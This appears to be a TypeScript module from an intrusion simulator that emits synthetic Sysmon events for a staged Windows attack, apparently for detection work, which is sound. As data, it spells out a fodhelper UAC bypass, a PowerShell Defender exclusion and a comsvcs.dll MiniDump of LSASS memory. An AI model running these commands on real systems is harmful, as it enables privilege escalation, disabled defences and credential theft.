import { sessionOf } from '../sessions.js';
import { fileCreated, processAccessed, registryValueSet } from '../sysmon-events.js';
import { SYSTEM, type LogonSession } from '../windows-process.js';
import { POWERSHELL, SYSTEM32 } from '../windows-programs.js';
import type { World } from '../world.js';
import { implant, library, startFromImplant } from './implant.js';
import type { IntrusionCast, PlannedStep } from './intrusion-plan.js';

function elevated(world: World, cast: IntrusionCast): LogonSession {
  return { ...sessionOf(world, cast.victim), integrity: 'High' };
}

function lookAround(world: World, time: number, cast: IntrusionCast): void {
  const shell = startFromImplant(world, cast, time, { image: `${SYSTEM32}cmd.exe`, commandLine: `${SYSTEM32}cmd.exe /c whoami /all` });
  const host = world.windows(cast.workstation);
  const commands: readonly (readonly [string, string])[] = [
    ['whoami.exe', 'whoami /all'],
    ['ipconfig.exe', 'ipconfig /all'],
    ['net.exe', 'net group "Domain Admins" /domain'],
    ['nltest.exe', 'nltest /domain_trusts'],
    ['net.exe', 'net view \\\\fs01 /all'],
  ];
  for (const [each, [image, commandLine]] of commands.entries()) {
    host.start(time + 100 + each * world.random.int(20_000, 70_000), { image: `${SYSTEM32}${image}`, commandLine, parent: shell });
  }
}

function bypassControl(world: World, time: number, cast: IntrusionCast): void {
  const key = `HKU\\${cast.victim.sid}_Classes\\ms-settings\\shell\\open\\command\\(Default)`;
  world.emit(
    time,
    'sysmon',
    registryValueSet(cast.workstation, time, implant(world, cast), { key, details: `rundll32.exe ${library(cast)},Start` }),
  );
  startFromImplant(world, cast, time + 2_000, {
    image: `${SYSTEM32}fodhelper.exe`,
    commandLine: 'fodhelper.exe',
    session: elevated(world, cast),
  });
}

function weakenDefender(world: World, time: number, cast: IntrusionCast): void {
  startFromImplant(world, cast, time, {
    image: POWERSHELL,
    commandLine: 'powershell.exe -nop -c "Add-MpPreference -ExclusionPath C:\\Users\\Public"',
    session: elevated(world, cast),
  });
}

function dumpCredentials(world: World, time: number, cast: IntrusionCast): void {
  const host = world.windows(cast.workstation);
  const lsass = host.running(`${SYSTEM32}lsass.exe`);
  const file = 'C:\\Users\\Public\\lsass.dmp';
  const dumper = startFromImplant(world, cast, time, {
    image: `${SYSTEM32}rundll32.exe`,
    commandLine: `rundll32.exe ${SYSTEM32}comsvcs.dll, MiniDump ${lsass.pid} ${file} full`,
    session: SYSTEM,
  });
  const callTrace = `${SYSTEM32}ntdll.dll+9d4c4|${SYSTEM32}KERNELBASE.dll+2c0ce|${SYSTEM32}dbgcore.dll+6f2a|${SYSTEM32}comsvcs.dll+1f2b7`;
  world.emit(time + 300, 'sysmon', processAccessed(cast.workstation, time + 300, dumper, lsass, { rights: '0x1fffff', callTrace }));
  world.emit(time + 900, 'sysmon', fileCreated(cast.workstation, time + 900, dumper, file));
}

const ON_WORKSTATION = { host: 'workstation', user: 'victim' } as const;

/** From first commands to the administrator's hash, on the victim's workstation. */
export const ESCALATION: readonly PlannedStep[] = [
  {
    ...ON_WORKSTATION,
    step: 'discovery',
    minute: 606,
    technique: 'T1069.002',
    tactic: 'discovery',
    act: lookAround,
    description: 'Own rights, domain administrators, trusts and shares are listed',
  },
  {
    ...ON_WORKSTATION,
    step: 'uac-bypass',
    minute: 631,
    technique: 'T1548.002',
    tactic: 'privilege-escalation',
    act: bypassControl,
    description: 'The handler of ms-settings is replaced and fodhelper started, which gives full rights',
  },
  {
    ...ON_WORKSTATION,
    step: 'defender-exclusion',
    minute: 634,
    technique: 'T1685',
    tactic: 'defense-impairment',
    act: weakenDefender,
    description: 'Microsoft Defender is told to leave the public directory alone',
  },
  {
    ...ON_WORKSTATION,
    step: 'lsass-dump',
    minute: 648,
    technique: 'T1003.001',
    tactic: 'credential-access',
    act: dumpCredentials,
    description: 'The memory of LSASS is dumped, with the hash of the administrator in it',
  },
];
